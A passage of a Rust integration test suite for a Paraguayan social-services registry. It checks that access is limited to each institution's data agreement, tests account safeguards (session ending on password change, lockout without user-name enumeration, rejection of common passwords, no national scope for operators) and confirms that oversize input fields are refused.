fn a_filter_outside_the_agreement_is_refused_not_answered() {
    for a in AGREED.iter() {
        let people = villeta(a);
        let someone = people.iter().find(|p| p["national_id"].is_i64()).unwrap();
        let cedula = someone["national_id"].as_i64().unwrap();
        let nobody = 1;
        // The administrator finds the person; the operator is refused, alike for a cédula of
        // the registry and one of nobody.
        let (st, v, _) = call(
            &a.s,
            &a.admin,
            "get",
            &format!("/api/persons?cedula={cedula}"),
            None,
        );
        assert_eq!((st, v["items"].as_array().unwrap().len()), (200, 1), "{v}");
        let asked = |who: &Who, q: String| call(&a.s, who, "get", &q, None);
        let (st, found) = {
            let (st, v, _) = asked(&a.narrow, format!("/api/persons?cedula={cedula}"));
            (st, v)
        };
        let (st2, missing, _) = asked(&a.narrow, format!("/api/persons?cedula={nobody}"));
        assert_eq!(st, 403, "{found}");
        assert_eq!((st, &found), (st2, &missing));
        assert!(
            found["error"]["message"]
                .as_str()
                .unwrap()
                .contains("«national_id»"),
            "{found}"
        );
        // Names and territory are in the agreement: those searches are answered.
        let word = people
            .iter()
            .filter_map(|p| p["given_names"].as_str())
            .flat_map(str::split_whitespace)
            .find(|w| w.len() > 2 && w.chars().all(|c| c.is_ascii_alphabetic()))
            .unwrap()
            .to_string();
        let (st, v, _) = asked(&a.narrow, format!("/api/persons?territory=1116&q={word}"));
        assert_eq!(st, 200, "{v}");
        assert!(!v["items"].as_array().unwrap().is_empty(), "{v}");
        // The web page offers the same filter through the same use case.
        let page = |c: i64| {
            let (st, v, _) = call(
                &a.s,
                &a.narrow_web,
                "get",
                &format!("/registro?cedula={c}"),
                None,
            );
            let text = v.as_str().unwrap_or_default().to_string();
            (st, text.contains("«national_id»"))
        };
        assert_eq!(page(cedula), (403, true));
        assert_eq!(page(nobody), (403, true));
    }
}

#[test]
fn dci_predicates_cannot_probe_fields_outside_the_agreement() {
    use serde_json::json;
    for a in AGREED.iter() {
        let people = villeta(a);
        let p = people
            .iter()
            .find(|p| p["national_id"].is_i64() && p["birth_date"].is_string())
            .unwrap();
        let cedula = p["national_id"].as_i64().unwrap();
        let born = p["birth_date"].as_str().unwrap().to_string();
        // Each probe twice: once true of someone in the registry, once of nobody.
        let pred = |attr: &str, op: &str, value: Value| json!([{"seq_num": 1, "expression1": {"attribute_name": attr, "operator": op, "attribute_value": value}}]);
        let pairs = [
            (
                (
                    "idtype-value",
                    json!({"type": "NationalID", "value": cedula.to_string()}),
                ),
                ("idtype-value", json!({"type": "NationalID", "value": "1"})),
            ),
            (
                ("expression", json!({"national_id": {"$lt": cedula + 1}})),
                ("expression", json!({"national_id": {"$lt": 1}})),
            ),
            (
                ("predicate", pred("birth_date", "ge", json!(born))),
                ("predicate", pred("birth_date", "ge", json!("2999-01-01"))),
            ),
            (
                ("predicate", pred("YOB", "eq", json!(&born[..4]))),
                ("predicate", pred("YOB", "eq", json!("1800"))),
            ),
            (
                (
                    "expression",
                    json!({"$and": [{"district_code": 1116}, {"sex": "female"}]}),
                ),
                (
                    "expression",
                    json!({"$and": [{"district_code": 9999}, {"sex": "male"}]}),
                ),
            ),
        ];
        let mut queries = Vec::new();
        for ((t1, q1), (t2, q2)) in &pairs {
            queries.push((*t1, q1.clone(), json!([])));
            queries.push((*t2, q2.clone(), json!([])));
        }
        let items = dci_search(a, &a.narrow, "mspbs_op.sis", &queries);
        assert_eq!(items.len(), queries.len());
        for pair in items.chunks(2) {
            let (hit, miss) = (&pair[0], &pair[1]);
            assert_eq!(hit["status"], "rjct", "{hit}");
            assert_eq!(hit["status_reason_code"], "rjct.filter.invalid", "{hit}");
            assert!(hit.get("pagination").is_none(), "{hit}");
            assert_eq!(steady(hit.clone()), steady(miss.clone()));
        }
        // A search on the agreed fields is answered.
        let ok = dci_search(
            a,
            &a.narrow,
            "mspbs_op.sis",
            &[("expression", json!({"district_code": 1116}), json!([]))],
        );
        assert_eq!(ok[0]["status"], "succ", "{}", ok[0]);
        assert!(ok[0]["pagination"]["total_count"].as_i64().unwrap() > 0);
    }
}

#[test]
fn sorting_by_a_field_outside_the_agreement_is_refused() {
    use serde_json::json;
    for a in AGREED.iter() {
        let by = |attr: &str| json!([{"attribute_name": attr, "sort_order": "asc"}]);
        let q = json!({"district_code": 1116});
        let items = dci_search(
            a,
            &a.narrow,
            "mspbs_op.sis",
            &[
                ("expression", q.clone(), by("birth_date")),
                ("expression", q.clone(), by("sex")),
                ("expression", q.clone(), by("given_names")),
            ],
        );
        for refused in &items[..2] {
            assert_eq!(refused["status"], "rjct", "{refused}");
            assert_eq!(
                refused["status_reason_code"], "rjct.sort.invalid",
                "{refused}"
            );
            assert!(refused.get("pagination").is_none(), "{refused}");
        }
        assert_eq!(items[2]["status"], "succ", "{}", items[2]);
        // With birth dates in its agreement, MEC may sort by them.
        let items = dci_search(
            a,
            &a.dated,
            "mec_op.sis",
            &[("expression", q, by("birth_date"))],
        );
        assert_eq!(items[0]["status"], "succ", "{}", items[0]);
    }
}

/// The rows of a referral list downloaded as `format` by `who`: header and data rows.
fn referral_table(a: &Agreed, who: &Who, format: &str) -> Vec<Vec<String>> {
    let resp = agent()
        .get(format!("{}/api/referrals?format={format}", a.s.base))
        .header(
            "authorization",
            format!("Bearer {}", who.bearer.as_ref().unwrap()),
        )
        .call()
        .unwrap();
    assert_eq!(resp.status().as_u16(), 200);
    let bytes = resp.into_body().read_to_vec().unwrap();
    let mut rows: Vec<Vec<String>> = if format == "csv" {
        csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap())
            .records()
            .map(|r| r.unwrap().iter().map(str::to_string).collect())
            .collect()
    } else {
        use calamine::Reader;
        let mut book = calamine::Xlsx::new(std::io::Cursor::new(bytes)).unwrap();
        let range = book.worksheet_range("referencias").unwrap();
        range
            .rows()
            .map(|r| r.iter().map(ToString::to_string).collect())
            .collect()
    };
    // The XLSX of synthetic data opens with a note: the table starts at the header.
    let start = rows
        .iter()
        .position(|r| r.iter().any(|c| c == "poblaciones"))
        .unwrap_or_else(|| panic!("{format}: {:?}", &rows[..rows.len().min(3)]));
    rows.split_off(start)
}

#[test]
fn referral_rows_hide_populations_outside_the_agreement() {
    for a in AGREED.iter() {
        // The administrator sees MSPBS's referrals of Villeta with their populations.
        let (st, all, _) = call(
            &a.s,
            &a.admin,
            "get",
            "/api/referrals?institution=MSPBS&territory=1116&limit=1000",
            None,
        );
        assert_eq!(st, 200, "{all}");
        let sensitive = ["discapacidad", "pobreza", "indigenas", "mujeres", "ninos"];
        let carried = |v: &Value| {
            v["items"].as_array().unwrap().iter().any(|r| {
                r["populations"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .any(|p| sensitive.contains(&p.as_str().unwrap()))
            })
        };
        assert!(carried(&all), "the registry has referrals with populations");
        // The narrow agreement covers none: no population, a priority that counts none, in
        // that order.
        let (st, mine, _) = call(&a.s, &a.narrow, "get", "/api/referrals?limit=1000", None);
        assert_eq!(st, 200, "{mine}");
        let items = mine["items"].as_array().unwrap();
        assert!(!items.is_empty());
        let priorities: Vec<i64> = items
            .iter()
            .map(|r| r["priority"].as_i64().unwrap())
            .collect();
        for r in items {
            assert_eq!(r["populations"], serde_json::json!([]), "{r}");
            assert_eq!(r["priority"].as_i64().unwrap() % 100, 0, "{r}");
        }
        assert!(
            priorities.windows(2).all(|w| w[0] >= w[1]),
            "{priorities:?}"
        );
        // The same list as CSV and XLSX: the populations column is empty.
        for format in ["csv", "xlsx"] {
            let rows = referral_table(a, &a.narrow, format);
            let col = rows[0].iter().position(|h| h == "poblaciones").unwrap();
            assert!(rows.len() > 1, "{format}");
            for r in &rows[1..] {
                assert_eq!(r[col], "", "{format}: {r:?}");
            }
        }
        // MEC agreed to birth dates: ages' populations only.
        let (_, mec, _) = call(&a.s, &a.dated, "get", "/api/referrals?limit=1000", None);
        for r in mec["items"].as_array().unwrap() {
            let pops = r["populations"].as_array().unwrap();
            assert!(
                pops.iter().all(|p| p == "ninos" || p == "adultos_mayores"),
                "{r}"
            );
            assert_eq!(
                r["priority"].as_i64().unwrap() % 100,
                pops.len() as i64,
                "{r}"
            );
        }
    }
}

/// The person variables a text names (`persona.<name>`).
fn person_variables(text: &str) -> Vec<String> {
    text.split("persona.")
        .skip(1)
        .map(|rest| {
            rest.chars()
                .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
                .collect()
        })
        .collect()
}

#[test]
fn status_explanations_hide_sensitive_rule_text() {
    for a in AGREED.iter() {
        let mut shown_to_admin = std::collections::BTreeSet::new();
        let mut withheld = 0;
        for p in villeta(a).iter().take(120) {
            let path = format!("/api/persons/{}/status", p["id"]);
            let (st, full, _) = call(&a.s, &a.admin, "get", &path, None);
            assert_eq!(st, 200, "{full}");
            shown_to_admin.extend(person_variables(&full.to_string()));
            let (st, mec, _) = call(&a.s, &a.dated, "get", &path, None);
            assert_eq!(st, 200, "{mec}");
            let text = mec.to_string();
            // Only the age may show in MEC's rules (its agreement has birth dates).
            for var in person_variables(&text) {
                assert!(
                    var == "edad" || var == "edad_meses",
                    "persona.{var} in {text}"
                );
            }
            // Pregnancy shows as a category of its own: left out.
            assert!(!text.contains("antes_del_nacimiento"), "{text}");
            withheld += text.matches("criterio reservado por el acuerdo").count();
            // Without birth dates, no category at all (they tell the age).
            let (_, narrow, _) = call(&a.s, &a.narrow, "get", &path, None);
            assert_eq!(narrow["categories"], serde_json::json!([]), "{narrow}");
        }
        for var in ["sexo", "trabaja", "asiste_escuela"] {
            assert!(shown_to_admin.contains(var), "{var}: {shown_to_admin:?}");
        }
        assert!(withheld > 0);
    }
}

#[test]
fn a_route_does_not_reveal_a_hidden_eligibility_by_listing_the_service() {
    // Tekoporã applies only to poor households (`hogar.pobre`): listed in a route, it would say
    // the household is poor to a reader whose agreement has no `pobreza`.
    for a in AGREED.iter() {
        let mut shown_to_admin = 0;
        for p in villeta(a).iter().take(200) {
            let path = format!("/api/persons/{}/route", p["id"]);
            let (st, full, _) = call(&a.s, &a.admin, "get", &path, None);
            assert_eq!(st, 200, "{full}");
            shown_to_admin += usize::from(full.to_string().contains("\"tekopora\""));
            let (st, mec, _) = call(&a.s, &a.dated, "get", &path, None);
            assert_eq!(st, 200, "{mec}");
            assert!(!mec.to_string().contains("\"tekopora\""), "{mec}");
        }
        assert!(shown_to_admin > 0, "no route of the sample lists Tekoporã");
    }
}

// ---------------------------------------------------------------- accounts (item 11)
//
// Accounts under attack: a session opened with a password that was then changed (by its owner
// or reset by an administrator) kept working; the answer to a failed sign-in said whether the
// name existed (a locked account answered 429 "cuenta bloqueada", and faster, since it skipped
// the password check); `Password1234` and `Qwerty123456` passed the policy of length and
// character classes; an administrator could give an operador the whole country by naming `PY`.
// Each runs on every backend under test, through the command line, the JSON API and the web
// form where each sets or checks a password.
mod accounts {
    use super::*;
    use serde_json::json;
    use std::time::{Duration, Instant};
    use vamos_store::testing::{all_dbs, RawSql, TestDb};

    /// A registry with its first administrator and a server, on one backend.
    struct Site {
        s: Server,
        admin: Who,
        db: TestDb,
        dir: tempfile::TempDir,
    }

    impl Site {
        fn url(&self) -> &str {
            &self.db.url
        }
        fn d(&self) -> &Path {
            self.dir.path()
        }
        /// Creates an account through the API as the administrator.
        fn create(
            &self,
            username: &str,
            role: &str,
            inst: Option<&str>,
            terr: &str,
        ) -> (u16, Value) {
            let (st, v, _) = call(
                &self.s,
                &self.admin,
                "post",
                "/api/users",
                Some(json!({"username": username, "password": PW, "role": role,
                            "institution": inst, "territories": terr})),
            );
            (st, v)
        }
        /// Whether the session of `who` is still alive (`GET /api/session`).
        fn alive(&self, who: &Who) -> bool {
            let (st, v, _) = call(&self.s, who, "get", "/api/session", None);
            assert!(st == 200 || st == 401, "{st} {v}");
            st == 200
        }
    }

    fn sites() -> Vec<Site> {
        all_dbs()
            .into_iter()
            .map(|db| {
                let dir = tempfile::tempdir().unwrap();
                init_db(&db.url, dir.path());
                let s = start(&db.url, dir.path());
                let admin = login(&s, "admin", PW);
                Site { s, admin, db, dir }
            })
            .collect()
    }

    /// A strong password other than [`PW`].
    const NEW_PW: &str = "Yerba-Mate-Cocido-1811";
    /// A third one.
    const RESET_PW: &str = "Lapacho-Rosado-Kurupi-88";

    fn error_message(v: &Value) -> String {
        v["error"]["message"]
            .as_str()
            .unwrap_or_default()
            .to_string()
    }

    #[test]
    fn a_password_change_ends_other_sessions() {
        for site in sites() {
            let label = site.db.label;
            assert_eq!(
                site.create("ana.perez", "analista", None, "").0,
                201,
                "{label}"
            );
            let here = login(&site.s, "ana.perez", PW);
            let elsewhere = login(&site.s, "ana.perez", PW);

            // Her own change, from one session: the other ends, this one goes on.
            let (st, v, _) = call(
                &site.s,
                &here,
                "post",
                "/api/session/password",
                Some(json!({"current_password": PW, "new_password": NEW_PW})),
            );
            assert_eq!(st, 200, "{label}: {v}");
            assert_eq!(v["sessions_ended"], 1, "{label}: {v}");
            assert!(
                !site.alive(&elsewhere),
                "{label}: the other session survived"
            );
            assert!(
                site.alive(&here),
                "{label}: the session that changed it ended"
            );
            let (st, _, _) = call(
                &site.s,
                &Who::default(),
                "post",
                "/api/session",
                Some(json!({"username": "ana.perez", "password": PW})),
            );
            assert_eq!(st, 401, "{label}: the old password still opens a session");

            // A stolen cookie alone cannot change it: the current password is required.
            let (st, v, _) = call(
                &site.s,
                &here,
                "post",
                "/api/session/password",
                Some(
                    json!({"current_password": "Adivinanza-Equivocada-1", "new_password": RESET_PW}),
                ),
            );
            assert_eq!(st, 403, "{label}: {v}");
            assert_eq!(v["error"]["code"], "credenciales_invalidas", "{label}: {v}");

            // An administrator's reset through the API ends every session, this one too.
            let third = login(&site.s, "ana.perez", NEW_PW);
            let (st, v, _) = call(
                &site.s,
                &site.admin,
                "post",
                "/api/users/ana.perez/password",
                Some(json!({"password": RESET_PW})),
            );
            assert_eq!(st, 200, "{label}: {v}");
            assert_eq!(v["sessions_ended"], 2, "{label}: {v}");
            assert!(!site.alive(&here), "{label}: a session survived the reset");
            assert!(!site.alive(&third), "{label}: a session survived the reset");
            assert!(
                site.alive(&site.admin),
                "{label}: the administrator's session ended"
            );

            // And through the command line.
            let fourth = login(&site.s, "ana.perez", RESET_PW);
            let o = vamos(
                &["user", "password", "--db", site.url(), "ana.perez"],
                site.d(),
                &[("VAMOS_PASSWORD", NEW_PW)],
            );
            assert!(
                o.status.success(),
                "{label}: {}",
                String::from_utf8_lossy(&o.stderr)
            );
            assert!(
                !site.alive(&fourth),
                "{label}: a session survived `vamos user password`"
            );

            // And her own change from the web page: the other sessions end, this one goes on.
            let web = login(&site.s, "ana.perez", NEW_PW);
            let other = login(&site.s, "ana.perez", NEW_PW);
            let cookie = format!("vamos_sesion={}", web.cookie.as_deref().unwrap());
            let form = agent()
                .get(format!("{}/cuenta", site.s.base))
                .header("cookie", &cookie)
                .call()
                .unwrap()
                .into_body()
                .read_to_string()
                .unwrap();
            let resp = agent()
                .post(format!("{}/cuenta", site.s.base))
                .header("cookie", &cookie)
                .send_form([
                    ("csrf", hidden(&form, "csrf").as_str()),
                    ("actual", NEW_PW),
                    ("nueva", RESET_PW),
                    ("repetida", RESET_PW),
                ])
                .unwrap();
            assert_eq!(resp.status().as_u16(), 200, "{label}");
            let page = resp.into_body().read_to_string().unwrap();
            assert!(page.contains("Contraseña cambiada"), "{label}: {page}");
            assert!(
                !site.alive(&other),
                "{label}: a session survived the web change"
            );
            assert!(
                site.alive(&web),
                "{label}: the web session that changed it ended"
            );
            login(&site.s, "ana.perez", RESET_PW);
        }
    }

    /// What a client sees of an answer, without what differs on every answer anyway (the date,
    /// the request id) and with the given one-off values (a form token, the name typed) masked.
    #[derive(Debug, PartialEq)]
    struct Seen {
        status: u16,
        headers: Vec<(String, String)>,
        body: String,
    }

    fn seen(resp: ureq::http::Response<ureq::Body>, masks: &[&str]) -> Seen {
        let mask = |t: &str| {
            masks
                .iter()
                .filter(|m| !m.is_empty())
                .fold(t.to_string(), |t, m| t.replace(m, "…"))
        };
        let status = resp.status().as_u16();
        let mut headers: Vec<(String, String)> = resp
            .headers()
            .iter()
            .filter(|(k, _)| !["date", "x-request-id"].contains(&k.as_str()))
            .map(|(k, v)| (k.to_string(), mask(v.to_str().unwrap_or_default())))
            .collect();
        headers.sort();
        let body = resp.into_body().read_to_string().unwrap_or_default();
        Seen {
            status,
            headers,
            body,
        }
    }

    /// A sign-in through the JSON API: what the client sees and how long it took.
    fn api_attempt(s: &Server, user: &str, password: &str) -> (Seen, Duration) {
        let t = Instant::now();
        let resp = agent()
            .post(format!("{}/api/session", s.base))
            .send_json(json!({"username": user, "password": password}))
            .unwrap();
        let took = t.elapsed();
        (seen(resp, &[]), took)
    }

    /// A sign-in through the web form (its page fetched first, for the form's token).
    fn web_attempt(s: &Server, user: &str, password: &str) -> (Seen, Duration) {
        let a = no_redirects();
        let resp = a.get(format!("{}/ingresar", s.base)).call().unwrap();
        let cookie = resp
            .headers()
            .get_all("set-cookie")
            .iter()
            .filter_map(|v| v.to_str().ok())
            .find(|c| c.starts_with("vamos_ingreso="))
            .and_then(|c| c.split(';').next())
            .unwrap()
            .to_string();
        let page = resp.into_body().read_to_string().unwrap();
        let t = Instant::now();
        let resp = a
            .post(format!("{}/ingresar", s.base))
            .header("cookie", &cookie)
            .send_form([
                ("usuario", user),
                ("clave", password),
                ("token", hidden(&page, "token").as_str()),
                ("volver", "/"),
            ])
            .unwrap();
        let took = t.elapsed();
        // The answer is the form again, with a fresh token (body and cookie) and the name typed.
        let status = resp.status().as_u16();
        let headers: Vec<(String, String)> = resp
            .headers()
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_str().unwrap_or_default().to_string()))
            .collect();
        let body = resp.into_body().read_to_string().unwrap_or_default();
        let token = hidden(&body, "token");
        let mut out = Seen {
            status,
            headers: headers
                .into_iter()
                .filter(|(k, _)| !["date", "x-request-id"].contains(&k.as_str()))
                .map(|(k, v)| (k, v.replace(&token, "…")))
                .collect(),
            body: body.replace(&token, "…").replace(user, "USUARIO"),
        };
        out.headers.sort();
        (out, took)
    }

    #[test]
    fn lock_out_does_not_reveal_which_user_names_exist() {
        for site in sites() {
            let label = site.db.label;
            type Attempt = fn(&Server, &str, &str) -> (Seen, Duration);
            for (channel, attempt) in [("api", api_attempt as Attempt), ("web", web_attempt)] {
                let who = format!("{channel}.{}", label);
                // A name of the same length per channel, so the echoed name changes no length.
                let real = format!("ana.{}", &who[..3]);
                let unknown = format!("zzz.{}", &who[..3]);
                assert_eq!(site.create(&real, "analista", None, "").0, 201, "{who}");
                let mut answers: Vec<(&str, Seen)> = Vec::new();
                let mut times: Vec<(&str, Duration)> = Vec::new();
                let mut record = |class: &'static str, r: (Seen, Duration)| {
                    answers.push((class, r.0));
                    times.push((class, r.1));
                };
                // Four failures on an existing account (the fifth locks it), eight on no account.
                for i in 0..8 {
                    if i < 4 {
                        record(
                            "contraseña equivocada",
                            attempt(&site.s, &real, "Equivocada-Clave-77"),
                        );
                    }
                    record(
                        "nombre desconocido",
                        attempt(&site.s, &unknown, "Equivocada-Clave-77"),
                    );
                }
                // The fifth failure locks it; from then on even the right password is refused.
                record(
                    "contraseña equivocada",
                    attempt(&site.s, &real, "Equivocada-Clave-77"),
                );
                for _ in 0..8 {
                    record("cuenta bloqueada", attempt(&site.s, &real, PW));
                }
                let (first_class, first) = &answers[0];
                assert_eq!(first.status, 401, "{who}: {first:?}");
                for (class, a) in &answers {
                    assert_eq!(
                        a, first,
                        "{who}: «{class}» is told apart from «{first_class}»"
                    );
                }
                // The lock-out holds: the account is refused with its right password (above)
                // and the audit trail keeps the true reason.
                // Timing, on a machine other work slows down at random: the fastest answer of
                // each class (noise only adds time) must cost at least a third of the fastest
                // wrong password — an answer that skips the argon2id check is several times
                // faster — and no class may be slower than four times the usual wrong one.
                let of = |class: &str| {
                    let mut t: Vec<Duration> = times
                        .iter()
                        .filter(|(c, _)| *c == class)
                        .map(|(_, t)| *t)
                        .collect();
                    t.sort();
                    t
                };
                let wrong = of("contraseña equivocada");
                let (fastest_wrong, usual_wrong) = (wrong[0], wrong[wrong.len() / 2]);
                for class in ["nombre desconocido", "cuenta bloqueada"] {
                    let fastest = of(class)[0];
                    assert!(
                        fastest * 3 > fastest_wrong && fastest < usual_wrong * 4,
                        "{who}: «{class}» answered in {fastest:?} at best, a wrong password in \
                         {fastest_wrong:?} at best and {usual_wrong:?} usually"
                    );
                }
            }
            let o = vamos(
                &[
                    "audit",
                    "export",
                    "--db",
                    site.url(),
                    "--out",
                    "auditoria.csv",
                ],
                site.d(),
                &[],
            );
            assert!(
                o.status.success(),
                "{label}: {}",
                String::from_utf8_lossy(&o.stderr)
            );
            let trail = std::fs::read_to_string(site.d().join("auditoria.csv")).unwrap();
            assert!(trail.contains("rechazado: cuenta bloqueada"), "{label}");
        }
    }

    #[test]
    fn common_passwords_are_refused() {
        const WEAK: [&str; 3] = ["Password1234", "Qwerty123456", "Paraguay2026!"];
        let refused = |text: &str, what: &str| {
            assert!(
                text.contains("demasiado fácil de adivinar"),
                "{what} was not refused as guessable: {text}"
            );
        };
        for site in sites() {
            let label = site.db.label;
            for weak in WEAK {
                // The command line: the first administrator, a new account, a reset.
                let fresh = tempfile::tempdir().unwrap();
                let db = format!("sqlite:{}", fresh.path().join("v.sqlite").display());
                let o = vamos(
                    &["db", "init", "--db", &db],
                    fresh.path(),
                    &[("VAMOS_ADMIN_PASSWORD", weak)],
                );
                assert!(!o.status.success(), "db init {weak}");
                refused(&String::from_utf8_lossy(&o.stderr), "db init");
                let o = vamos(
                    &[
                        "user",
                        "create",
                        "--db",
                        site.url(),
                        "debil",
                        "--role",
                        "analista",
                    ],
                    site.d(),
                    &[("VAMOS_PASSWORD", weak)],
                );
                assert!(!o.status.success(), "{label}: user create {weak}");
                refused(&String::from_utf8_lossy(&o.stderr), "user create");
                let o = vamos(
                    &["user", "password", "--db", site.url(), "admin"],
                    site.d(),
                    &[("VAMOS_PASSWORD", weak)],
                );
                assert!(!o.status.success(), "{label}: user password {weak}");
                refused(&String::from_utf8_lossy(&o.stderr), "user password");

                // The API: a new account, an administrator's reset, one's own change.
                let (st, v, _) = call(
                    &site.s,
                    &site.admin,
                    "post",
                    "/api/users",
                    Some(json!({"username": "debil", "password": weak, "role": "analista"})),
                );
                assert_eq!(st, 400, "{label}: POST /api/users {weak}: {v}");
                refused(&error_message(&v), "POST /api/users");
            }
            // (`debil` was never created: each attempt above was refused.)
            let (st, v, _) = call(&site.s, &site.admin, "get", "/api/users", None);
            assert_eq!(st, 200);
            assert!(!v.to_string().contains("debil"), "{label}: {v}");
            for weak in WEAK {
                let (st, v, _) = call(
                    &site.s,
                    &site.admin,
                    "post",
                    "/api/users/admin/password",
                    Some(json!({"password": weak})),
                );
                assert_eq!(st, 400, "{label}: reset {weak}: {v}");
                refused(&error_message(&v), "POST /api/users/{u}/password");
                let (st, v, _) = call(
                    &site.s,
                    &site.admin,
                    "post",
                    "/api/session/password",
                    Some(json!({"current_password": PW, "new_password": weak})),
                );
                assert_eq!(st, 400, "{label}: own change {weak}: {v}");
                refused(&error_message(&v), "POST /api/session/password");
            }
            // The administrator's password is the one it was.
            login(&site.s, "admin", PW);
        }
    }

    #[test]
    fn an_operator_cannot_have_national_scope() {
        for site in sites() {
            let label = site.db.label;
            for (role, inst, terr) in [
                ("operador", Some("MSPBS"), ""),
                ("operador", Some("MSPBS"), "PY"),
                ("operador", Some("MSPBS"), "1116,PY"),
                ("mesa", None, "py"),
                ("orientador", None, "PY"),
            ] {
                let (st, v) = site.create("nacional", role, inst, terr);
                assert_eq!(st, 400, "{label}: {role} «{terr}»: {v}");
                assert!(
                    error_message(&v).contains("no puede tener alcance nacional"),
                    "{label}: {v}"
                );
            }
            let o = vamos(
                &[
                    "user",
                    "create",
                    "--db",
                    site.url(),
                    "nacional",
                    "--role",
                    "operador",
                    "--institution",
                    "MSPBS",
                    "--territories",
                    "PY",
                ],
                site.d(),
                &[("VAMOS_PASSWORD", PW)],
            );
            assert!(!o.status.success(), "{label}");
            assert!(
                String::from_utf8_lossy(&o.stderr).contains("no puede tener alcance nacional"),
                "{label}: {}",
                String::from_utf8_lossy(&o.stderr)
            );
            // A territorial operador is created as before.
            assert_eq!(
                site.create("op.villeta", "operador", Some("MSPBS"), "1116")
                    .0,
                201
            );

            // An operador stored nationwide before the check existed acts nowhere.
            site.db
                .open()
                .db()
                .execute(
                    "UPDATE users SET territories = 'PY' WHERE username = 'op.villeta'",
                    &[],
                )
                .unwrap();
            let op = login(&site.s, "op.villeta", PW);
            let (st, v, _) = call(&site.s, &op, "get", "/api/session", None);
            assert_eq!(st, 403, "{label}: {v}");
            let o = vamos(
                &["--as", "op.villeta", "user", "list", "--db", site.url()],
                site.d(),
                &[],
            );
            assert!(
                String::from_utf8_lossy(&o.stderr).contains("no puede tener alcance nacional"),
                "{label}: {}",
                String::from_utf8_lossy(&o.stderr)
            );
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Unbounded fields (item 9) and exports that account for every referral (item 10).
//
// A 10 MB name, address or place of delivery used to be stored and carried into every page and
// export, and an error repeated a 20 MB header line whole. Every entry point now refuses a text
// longer than its limit (`vamos_domain::limits`: names 100 characters, addresses and places
// 200, free text 2,000, codes and keys 100) with the usual row report or JSON error, and every
// error that repeats a value cuts it at 200 characters with `…`. An export's audit record names
// every referral that left: their count, a SHA-256 over their sorted ids, and the filter.

/// The characters of `s` (the limits count characters, not bytes).
fn chars(s: &str) -> usize {
    s.chars().count()
}

/// A value cut as an error repeats it: 200 characters (`vamos_domain::limits::ECHO`) and `…`.
fn is_cut(value: &str) -> bool {
    chars(value) == 200 + 1 && value.ends_with('…')
}

#[test]
fn a_ten_megabyte_name_is_refused_with_a_row_report() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    synth_pilots(d, "30", "35");
    // The first member's given names become four million characters: the longest cell a CSV
    // row carries (a record over 4 MiB, such as a 10 MB name, refuses the whole file before
    // any row is read — the bound against bombs, `vamos_ingest::bounded`).
    let members = d.join("datos/fips-miembros.csv");
    let text = std::fs::read_to_string(&members).unwrap();
    let (header, rest) = text.split_once('\n').unwrap();
    let (first_name, row) = rest.split_once(',').unwrap();
    assert!(!first_name.is_empty() && !first_name.starts_with('"'));
    let huge = format!("Ana{}", "a".repeat(4_000_000));
    std::fs::write(&members, format!("{header}\n{huge},{row}")).unwrap();
    for db in vamos_store::testing::all_dbs() {
        let url = db.url.as_str();
        init_db(url, d);
        let rejects = d.join(format!("rechazos-{}.csv", db.label));
        let o = vamos(
            &[
                "import",
                "fips",
                "--db",
                url,
                "datos",
                "--date",
                "2026-11-23",
                "--rejects",
                rejects.to_str().unwrap(),
                "--format",
                "json",
            ],
            d,
            &[],
        );
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        let summary: Value =
            serde_json::from_str(String::from_utf8_lossy(&o.stdout).lines().last().unwrap())
                .unwrap();
        assert_eq!(summary["persons_rejected"], 1, "{}: {summary}", db.label);
        assert!(summary["persons_accepted"].as_u64().unwrap() > 0);
        // The report names file, row, column, the value cut at 200 characters and why.
        let report = std::fs::read_to_string(&rejects).unwrap();
        assert!(
            report.len() < 10_000,
            "{}: {} bytes",
            db.label,
            report.len()
        );
        let mut r = csv::Reader::from_reader(report.trim_start_matches('\u{feff}').as_bytes());
        let line = r
            .records()
            .map(Result::unwrap)
            .find(|l| &l[2] == "miembros-nombres")
            .unwrap_or_else(|| panic!("{}: {report}", db.label));
        assert_eq!(&line[0], "fips-miembros.csv");
        assert_eq!(&line[1], "2");
        assert!(
            is_cut(&line[3]) && line[3].starts_with("Anaaa"),
            "{}",
            &line[3]
        );
        assert_eq!(
            &line[4],
            "texto demasiado largo: 4000003 caracteres; un nombre admite a lo sumo 100"
        );
    }
}

#[test]
fn an_oversize_delivery_place_is_refused() {
    for db in vamos_store::testing::all_dbs() {
        let d = tempfile::tempdir().unwrap();
        let token = operator_token(&db.url, d.path());
        let s = start(&db.url, d.path());
        let place = "x".repeat(10_000_000);
        let event = serde_json::json!({"event_id": "E-1", "cedula": "1234567",
            "service": "control_prenatal", "delivered_on": "2026-11-20", "place": place});
        let batch = serde_json::to_vec(&serde_json::json!({ "events": [event] })).unwrap();
        // A file's row is read up to 4 MiB (`vamos_ingest::bounded`): three million there.
        let file = format!(
            "id_evento,cedula,servicio,fecha_entrega,lugar\nE-1,1234567,control_prenatal,2026-11-20,{}\n",
            &place[..3_000_000]
        );
        for (path, content_type, body, length) in [
            (
                "/api/counter-referrals/batch",
                "application/json",
                batch,
                "10000000",
            ),
            (
                "/api/counter-referrals/file",
                "text/csv",
                file.into_bytes(),
                "3000000",
            ),
        ] {
            let (st, v) = post_as(&s, &token, path, content_type, &body);
            assert_eq!(st, 200, "{}: {path}", db.label);
            assert_eq!(
                (v["accepted"].as_u64(), v["rejected"].as_u64()),
                (Some(0), Some(1))
            );
            let errors = v["errors"].as_array().unwrap();
            assert_eq!(errors.len(), 1, "{}: {path}: {errors:?}", db.label);
            let e = &errors[0];
            assert_eq!(e["column"], "lugar", "{path}");
            assert_eq!(
                e["reason"],
                format!("texto demasiado largo: {length} caracteres; una dirección o un lugar admite a lo sumo 200")
            );
            assert!(is_cut(e["value"].as_str().unwrap()), "{path}");
        }
        // The largest place admitted passes this check (the event then names nobody here).
        let event = serde_json::json!({"event_id": "E-2", "cedula": "1234567",
            "service": "control_prenatal", "delivered_on": "2026-11-20", "place": "x".repeat(200)});
        let (_, v) = post_as(
            &s,
            &token,
            "/api/counter-referrals/batch",
            "application/json",
            &serde_json::to_vec(&serde_json::json!([event])).unwrap(),
        );
        assert_ne!(v["errors"][0]["column"], "lugar", "{}: {v}", db.label);
    }
}

#[test]
